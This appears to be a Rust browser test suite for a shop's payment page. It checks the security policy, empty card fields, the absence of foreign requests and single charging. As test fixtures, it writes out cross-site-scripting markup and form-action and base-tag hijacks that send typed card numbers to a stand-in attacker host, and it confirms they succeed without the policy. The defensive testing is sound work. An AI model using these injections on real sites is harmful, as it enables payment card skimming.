//! The payment page, in a browser that was not made for it: what its policy keeps from happening, where its
//! requests go, and what is left of a card in it.

use hyper::HeaderMap;
use scraper::{Html, Selector};

use super::chrome::Chrome;
use super::double::Fault;
use super::harness::{Page, Shop, Shopper, cards, people};
use super::relay::{Meddling, Relay, Stranger};
use super::stage::Stage;

const CODE: &str = "951";
const PAY: &str = "form.pay button";
/// The card's fields and what the HTML standard calls them.
const FIELDS: [(&str, &str); 4] =
    [("cc-number", "cc-number"), ("cc-exp", "cc-exp"), ("cc-csc", "cc-csc"), ("cc-name", "cc-name")];
const DECLINED: &str = "4000000000000002";

fn demo() -> (tempfile::TempDir, Shop) {
    let folder = tempfile::tempdir().unwrap();
    let shop = Shop::start(folder.path());
    (folder, shop)
}

/// From a product to the payment page, by hand.
async fn reach_payment(chrome: &Chrome, origin: &str) {
    let origin = origin.trim_end_matches('/');
    chrome.open(&format!("{origin}/product/stoneware-mug")).await;
    chrome.click("form[action='/cart/add'] button").await;
    chrome.read_on("Stoneware Mug").await;
    chrome.open(&format!("{origin}/checkout/contact")).await;
    for (field, text) in [
        ("email", "grace@example.com"),
        ("name", "Grace Hopper"),
        ("street", "Mill Lane 7"),
        ("postal_code", "10115"),
        ("city", "Berlin"),
    ] {
        chrome.fill(&format!("#{field}"), text).await;
    }
    chrome.click("option[value='DE']").await;
    chrome.click("form[action='/checkout/contact'] button").await;
    chrome.arrive("/checkout/delivery").await;
    chrome.click("input[value='standard']").await;
    chrome.click("form[action='/checkout/delivery'] button").await;
    chrome.arrive("/checkout/pay").await;
}

async fn type_card(chrome: &Chrome, number: &str) {
    for (field, text) in
        [("cc-number", number), ("cc-exp", "12/39"), ("cc-csc", CODE), ("cc-name", "Grace Hopper")]
    {
        chrome.fill(&format!("#{field}"), text).await;
    }
}

async fn assert_empty(chrome: &Chrome, when: &str) {
    for (field, _) in FIELDS {
        assert_eq!(chrome.value(&format!("#{field}")).await, "", "{field} {when}");
    }
}

fn header<'a>(headers: &'a HeaderMap, name: &str) -> &'a str {
    headers[name].to_str().unwrap()
}

fn assert_strict(page: &Page) {
    let policy = header(&page.headers, "content-security-policy");
    let policy: Vec<_> = policy.split(';').map(str::trim).collect();
    for part in [
        "default-src 'none'",
        "script-src 'none'",
        "form-action 'self'",
        "base-uri 'none'",
        "frame-ancestors 'none'",
    ] {
        assert!(policy.contains(&part), "{part} is missing: {policy:?}");
    }
    let loose = ["//", "*", "unsafe"];
    assert!(!policy.iter().any(|part| loose.iter().any(|word| part.contains(word))), "{policy:?}");
    assert_eq!(header(&page.headers, "cache-control"), "no-store");
    assert_eq!(header(&page.headers, "x-frame-options"), "DENY");
    // Nothing for a policy to stop: no script, no handler, no address of another origin.
    for element in Html::parse_document(&page.text()).select(&Selector::parse("*").unwrap()) {
        assert!(!["script", "iframe", "object", "embed", "base"].contains(&element.value().name()));
        for (name, value) in element.value().attrs() {
            let address = ["href", "src", "srcset", "action", "formaction"].contains(&name);
            let own =
                value.starts_with(['/', '#']) && !value.starts_with("//") || value.starts_with("mailto:");
            assert!(!name.starts_with("on") && name != "style" && (own || !address), "{name}={value}");
        }
    }
}

#[tokio::test]
async fn the_page_forbids_scripts_and_copies_of_itself_before_and_after_a_refusal() {
    let (_folder, shop) = demo();
    let mut shopper = Shopper::of(&shop);
    shopper.add("stoneware-mug").await;
    let page = shopper.reach_payment("Grace Hopper").await;
    assert_strict(&page);
    let refused = shopper.pay(&page, DECLINED, CODE).await;
    assert!(refused.says("declined"), "{}", refused.words());
    assert_strict(&refused);
    let slip = shopper.pay(&refused, "4242424242424241", CODE).await;
    assert_strict(&slip);
    for page in [page, refused, slip] {
        let form = page.form("/checkout/pay");
        for (field, _) in FIELDS {
            assert_eq!(form.value(field), Some(""), "{field}");
        }
    }
}

/// Markup that a script could hide in, each way with a mark of its own, and ways to fetch from elsewhere.
fn injected(stranger: &Stranger) -> String {
    let to = stranger.origin();
    let mark = |name: &str| format!("document.title+=' ran-{name}'");
    format!(
        r#"<script>{}</script><script src="/injected.js"></script><script src="{to}/script.js"></script>
<script type="module">{}</script><img src="/none.png" onerror="{}"><svg onload="{}"></svg>
<a id="trap" href="javascript:void({})">Pay</a><button id="handler" type="button" onclick="{}">Pay</button>
<iframe srcdoc="<script>parent.{}</script>"></iframe><iframe src="{to}/frame"></iframe>
<object data="{to}/object"></object><link rel="stylesheet" href="{to}/style.css"><img src="{to}/pixel.png">
<style>body{{background:url({to}/background.png)}}</style><div style="background:url({to}/style.png)">x</div>
<video src="{to}/video.mp4" autoplay></video>"#,
        mark("inline"),
        mark("module"),
        mark("error"),
        mark("load"),
        mark("link"),
        mark("handler"),
        mark("frame"),
    )
}

/// Looks at the page with the injected markup in its source, and presses what can be pressed.
async fn press_traps(chrome: &Chrome, relay: &Relay) -> String {
    chrome.open(&format!("{}/checkout/pay", relay.origin())).await;
    chrome.click("#handler").await;
    chrome.click("#trap").await;
    // What waits for something gets its time.
    tokio::time::sleep(std::time::Duration::from_secs(2)).await;
    chrome.title().await
}

#[tokio::test]
async fn a_script_in_the_pages_source_does_not_run_and_nothing_is_fetched_from_elsewhere() {
    let (_folder, shop) = demo();
    let (relay, stranger) = (Relay::start(shop.storefront()).await, Stranger::start().await);
    let chrome = Chrome::start().await;
    reach_payment(&chrome, &relay.origin()).await;
    relay.meddle(Meddling { inject: injected(&stranger), ..Meddling::default() });
    let title = press_traps(&chrome, &relay).await;
    assert!(!title.contains("ran-"), "{title}");
    assert!(stranger.got.lock().unwrap().is_empty(), "{:?}", stranger.got.lock().unwrap());
    let asked = relay.asked.lock().unwrap().clone();
    assert!(!asked.iter().any(|path| path == "/injected.js"), "a script's file was fetched: {asked:?}");
    chrome.picture("injected").await;

    // Without the policy the same markup does all of that: the test would see it.
    relay.meddle(Meddling { inject: injected(&stranger), no_policy: true, ..Meddling::default() });
    let title = press_traps(&chrome, &relay).await;
    for way in ["inline", "file", "module", "error", "load", "link", "handler", "frame"] {
        assert!(title.contains(&format!("ran-{way}")), "{way} would not run anyway: {title}");
    }
    assert!(!stranger.got.lock().unwrap().is_empty());
}

#[tokio::test]
async fn a_form_that_was_turned_elsewhere_is_not_sent() {
    let (_folder, shop) = demo();
    let (relay, stranger) = (Relay::start(shop.storefront()).await, Stranger::start().await);
    let chrome = Chrome::start().await;
    reach_payment(&chrome, &relay.origin()).await;
    let to = stranger.origin();
    let turned = [
        // In the page's source, by a button of its own, and by whoever can change the page while it is shown.
        (Some((r#"action="/checkout/pay""#.to_owned(), format!(r#"action="{to}/take""#))), ""),
        (
            Some((
                r#"<button class="whole">"#.to_owned(),
                format!(r#"<button class="whole" formaction="{to}/take">"#),
            )),
            "",
        ),
        (
            Some((
                r#"<form class="pay" method="post""#.to_owned(),
                r#"<form class="pay" method="get""#.to_owned(),
            )),
            "document.querySelector('form.pay').action = TO;",
        ),
        (None, "document.querySelector('form.pay').action = TO;"),
        (None, "const base = document.createElement('base'); base.href = TO; document.head.prepend(base);"),
    ];
    for (replace, script) in turned {
        relay.meddle(Meddling { replace: replace.clone(), ..Meddling::default() });
        chrome.open(&format!("{}/checkout/pay", relay.origin())).await;
        type_card(&chrome, &cards::number(31)).await;
        if !script.is_empty() {
            chrome.script(&script.replace("TO", &format!("'{to}/take'"))).await;
        }
        let base = script.contains("base");
        if !base {
            chrome.click(PAY).await;
            tokio::time::sleep(std::time::Duration::from_secs(1)).await;
        }
        assert!(
            stranger.got.lock().unwrap().is_empty(),
            "{replace:?} {script}: {:?}",
            stranger.got.lock().unwrap()
        );
        let url = chrome.url().await;
        assert!(url.starts_with(&relay.origin()) && !url.contains("4242"), "{url}");
        if base {
            let aim = chrome.script("return document.querySelector('form.pay').action").await;
            assert_eq!(aim, format!("{}/checkout/pay", relay.origin()));
        }
    }
    // Without the policy the card would be gone.
    let replace = Some((r#"action="/checkout/pay""#.to_owned(), format!(r#"action="{to}/take""#)));
    relay.meddle(Meddling { replace, no_policy: true, ..Meddling::default() });
    chrome.open(&format!("{}/checkout/pay", relay.origin())).await;
    type_card(&chrome, &cards::number(31)).await;
    chrome.click(PAY).await;
    chrome.arrive("/take").await;
    assert!(stranger.got.lock().unwrap().iter().any(|got| got.contains(&cards::number(31))));
}

#[tokio::test]
async fn every_request_of_a_purchase_goes_to_the_shop_alone_and_no_card_stays_in_a_field() {
    let (_folder, shop) = demo();
    let chrome = Chrome::start().await;
    // The browser's own first page has loaded by now: it does not count.
    chrome.open("about:blank").await;
    chrome.requests().await;
    reach_payment(&chrome, shop.storefront()).await;
    for (field, token) in FIELDS {
        assert_eq!(chrome.attribute(&format!("#{field}"), "autocomplete").await.as_deref(), Some(token));
    }
    chrome.picture("empty").await;

    type_card(&chrome, DECLINED).await;
    chrome.click(PAY).await;
    chrome.read_on("declined").await;
    assert_empty(&chrome, "after a refusal").await;
    chrome.picture("declined").await;
    chrome.back().await;
    chrome.arrive("/checkout/pay").await;
    assert_empty(&chrome, "after Back from a refusal").await;

    type_card(&chrome, "4242424242424241").await;
    chrome.click(PAY).await;
    chrome.read_on("card number").await;
    assert_empty(&chrome, "after a slip").await;
    type_card(&chrome, &cards::number(32)).await;
    chrome.reload().await;
    assert_empty(&chrome, "after Reload").await;

    // Away to another page with the card typed, and back again.
    chrome.open(&format!("{}/checkout/pay", shop.storefront().trim_end_matches('/'))).await;
    type_card(&chrome, &cards::number(32)).await;
    chrome.click("a[href='/policy']").await;
    chrome.arrive("/policy").await;
    chrome.back().await;
    chrome.arrive("/checkout/pay").await;
    assert_empty(&chrome, "after a look elsewhere").await;

    type_card(&chrome, &cards::number(32)).await;
    chrome.click(PAY).await;
    chrome.read_on("Thank you").await;
    chrome.picture("paid").await;
    let confirmed = (chrome.url().await, chrome.words().await);
    chrome.reload().await;
    assert_eq!((chrome.url().await, chrome.words().await), confirmed, "the confirmation after Reload");
    chrome.back().await;
    for (field, _) in FIELDS {
        if let Some(_there) = chrome.try_find(&format!("#{field}")).await {
            assert_eq!(
                chrome.value(&format!("#{field}")).await,
                "",
                "{field} after Back from the confirmation"
            );
        }
    }
    chrome.picture("back-from-paid").await;

    let requests = chrome.requests().await;
    let shop = shop.storefront().trim_end_matches('/');
    let foreign: Vec<_> =
        requests.iter().filter(|url| !url.starts_with(shop) && !url.starts_with("data:")).collect();
    assert!(foreign.is_empty(), "{foreign:?}");
    assert!(requests.iter().filter(|url| url.ends_with("/checkout/pay")).count() >= 6, "{requests:?}");
}

#[tokio::test]
async fn buying_works_with_javascript_switched_off() {
    let (_folder, shop) = demo();
    let relay = Relay::start(shop.storefront()).await;
    let chrome = Chrome::start_with(false).await;
    reach_payment(&chrome, &relay.origin()).await;
    // It really is off: not even a page without a policy runs one.
    let inject = "<script>document.title+=' ran-inline'</script>".to_owned();
    relay.meddle(Meddling { inject, no_policy: true, ..Meddling::default() });
    chrome.open(&format!("{}/checkout/pay", relay.origin())).await;
    assert!(!chrome.title().await.contains("ran-"), "scripts are not off");
    relay.meddle(Meddling::default());
    chrome.open(&format!("{}/checkout/pay", relay.origin())).await;
    type_card(&chrome, &cards::number(33)).await;
    chrome.click(PAY).await;
    chrome.read_on("Thank you").await;
}

#[tokio::test]
async fn two_clicks_on_pay_charge_once() {
    let mut stage = Stage::set().await;
    let chrome = Chrome::start().await;
    reach_payment(&chrome, stage.shop.storefront()).await;
    type_card(&chrome, &cards::number(34)).await;
    // Both clicks fall into the time that the gateway takes.
    stage.double.plan("/confirm", Fault::Slow(2_000));
    let _ = chrome.requests().await;
    chrome.double_click(PAY).await;
    chrome.read_on("Thank you").await;
    let sent = chrome.requests().await.iter().filter(|url| url.ends_with("/checkout/pay")).count();
    let confirmed = (chrome.url().await, chrome.words().await);

    // Back, and Pay once more with whatever is there to be pressed.
    chrome.back().await;
    if chrome.try_find(PAY).await.is_some() {
        type_card(&chrome, &cards::number(34)).await;
        chrome.click(PAY).await;
        chrome.read_on("Thank you").await;
        assert_eq!((chrome.url().await, chrome.words().await), confirmed);
    }
    chrome.open(&confirmed.0).await;
    for _ in 0..3 {
        chrome.reload().await;
        assert_eq!(chrome.words().await, confirmed.1);
    }
    assert_eq!(sent, 2, "the two clicks did not send two forms: nothing is shown");
    assert_eq!(stage.double.charges().len(), 1, "{:?}", stage.double.charges());
    assert_eq!(stage.orders().await.len(), 1);
}

#[tokio::test]
async fn four_submits_from_two_tabs_are_one_order_one_charge_and_one_page() {
    let mut stage = Stage::set().await;
    let mut shopper = Shopper::of(&stage.shop);
    shopper.add("stoneware-mug").await;
    let first = shopper.reach_payment("Grace Hopper").await;
    let second = shopper.browser.tab().get("/checkout/pay").await;
    stage.double.plan("/confirm", Fault::Slow(1_500));
    let mut sent = tokio::task::JoinSet::new();
    for page in [&first, &first, &second, &second] {
        let (mut tab, form) = (shopper.browser.tab(), people::card(page, &cards::number(35), CODE));
        sent.spawn(async move { tab.submit(form).await });
    }
    let pages = sent.join_all().await;
    let all: std::collections::BTreeSet<_> =
        pages.iter().map(|page| (page.at.clone(), page.words())).collect();
    assert_eq!(all.len(), 1, "{all:?}");
    assert!(pages.iter().all(people::is_paid), "{}", pages[0].words());
    // The forms once more, when all is over: Back, and Pay again.
    for page in [&first, &second] {
        let again = shopper.browser.tab().submit(people::card(page, &cards::number(35), CODE)).await;
        let seen = (again.at.clone(), again.words());
        assert!(all.contains(&seen) || again.at == "/cart", "{seen:?}");
    }
    assert_eq!(stage.double.charges().len(), 1, "{:?}", stage.double.charges());
    assert_eq!(stage.orders().await.len(), 1);
    assert!(stage.double.breaches().is_empty(), "{:?}", stage.double.breaches());
}
